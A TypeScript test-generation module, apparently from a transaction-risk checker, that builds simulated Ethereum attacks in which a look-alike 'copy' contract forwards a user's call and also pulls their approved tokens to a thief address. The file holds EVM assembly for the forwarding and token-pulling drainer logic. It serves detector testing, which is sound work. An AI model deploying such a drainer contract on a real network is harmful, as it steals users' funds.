import type { Address, Hex } from '@redoubt/risk/address.ts'
import { encodeFunctionData, parseAbi } from 'viem/utils'
import { assemble } from '../../src/evm/simulation/testing/assembler.ts'
import { approve, bundleOf, holdingOf, merged } from './approvalAttacks.ts'
import type { Attack } from './attack.ts'
import { type AttackNode, choose, madeAddress, type Slots, word } from './attackNode.ts'
import type { Base } from './bases.ts'
import { THIEF } from './spenders.ts'

/** Share of the holding that is pulled, in percent. */
const SHARES: readonly number[] = [100, 60, 40]
const SHAPES = ['direct', 'calls', 'multicall', 'router'] as const
const MULTICALL_ABI = parseAbi(['function multicall(bytes[] calls)'])
const ALLOWANCE_ABI = parseAbi(['function allowance(address owner, address spender) view returns (uint256)'])

/** Hands the call on: the target's code in the copy's place, the first part of a multicall, or a call of the target itself. */
const FORWARD = {
  code: 'CALLDATASIZE 0 0 CALLDATACOPY 0 0 CALLDATASIZE 0 TARGET GAS DELEGATECALL POP',
  multicall: `68 CALLDATALOAD 68 ADD DUP1 CALLDATALOAD DUP1 DUP3 32 ADD 0 CALLDATACOPY
    0 0 DUP3 0 TARGET GAS DELEGATECALL POP`,
  call: 'CALLDATASIZE 0 0 CALLDATACOPY 0 0 CALLDATASIZE 0 CALLVALUE TARGET GAS CALL POP',
} as const
const PULL = `0x23b872dd${'00'.repeat(28)} 0 MSTORE CALLER 4 MSTORE ${THIEF} 36 MSTORE AMOUNT 68 MSTORE
  0 0 100 0 0 TOKEN GAS CALL ISZERO @no JUMPI STOP :no 0 0 REVERT`

/**
 * The target replaced by a copy that also pulls: the same call to a contract that hands it on, and takes tokens of its caller by an
 * allowance. The allowance is older than the call, or given beside it (`calls`).
 */
export async function copyAttacks(node: AttackNode, base: Base, seed: string): Promise<Attack[] | string> {
  const label = `${seed} copy ${base.hash}`
  const token = base.tokens[choose(`${label} token`, base.tokens.length || 1)]
  if (token === undefined) return 'moves no tokens'
  const held = await holdingOf(node, token, base)
  if (held === null) return 'the sender could not be given the token'
  const attacks: Attack[] = []
  for (const shape of SHAPES) {
    const share = SHARES[choose(`${label} ${shape} share`, SHARES.length)] ?? 100
    const amount = (held.amount * BigInt(share)) / 100n
    const copy = madeAddress(`${label} ${shape}`)
    const allowed = shape === 'calls' ? {} : await allowanceOf(node, { token, owner: base.from, spender: copy, amount })
    if (allowed === null) return 'the allowance could not be given'
    const data = shape === 'multicall' ? inMulticall(base.data) : base.data
    const own = { to: copy, value: base.value, data }
    const calls = shape === 'calls' ? [approve(token, copy, amount), own] : null
    attacks.push({
      transformation: 'a copy that also pulls',
      shape,
      variant: `${share} %`,
      base,
      // The copy needs more gas than the target.
      body: calls === null ? { ...base.body, to: copy, data, gas: undefined } : bundleOf(base, calls),
      steps: (calls ?? [own]).map((one) => ({ from: base.from, ...one })),
      later: [],
      loot: [{ token, item: null, taker: THIEF }],
      slots: merged(held.slots, allowed),
      parts: [
        [copy, { balance: 0n, nonce: 1, code: codeOf(shape, { target: base.to, token, amount }), storage: new Map() }],
      ],
    })
  }
  return attacks
}

function codeOf(
  shape: (typeof SHAPES)[number],
  { target, token, amount }: { target: Address; token: Address; amount: bigint },
): Hex {
  const way = shape === 'multicall' ? 'multicall' : shape === 'router' ? 'call' : 'code'
  const source = `${FORWARD[way]} ${PULL}`
  return assemble(source.replace('TARGET', target).replace('TOKEN', token).replace('AMOUNT', String(amount)))
}

/** One call that carries the real call and a second one. */
function inMulticall(data: Hex): Hex {
  return encodeFunctionData({ abi: MULTICALL_ABI, functionName: 'multicall', args: [[data, '0x4e71d92d']] })
}

function allowanceOf(
  node: AttackNode,
  { token, owner, spender, amount }: { token: Address; owner: Address; spender: Address; amount: bigint },
): Promise<Slots | null> {
  const data = encodeFunctionData({ abi: ALLOWANCE_ABI, functionName: 'allowance', args: [owner, spender] })
  return node.slotFor(token, data, word(amount))
}
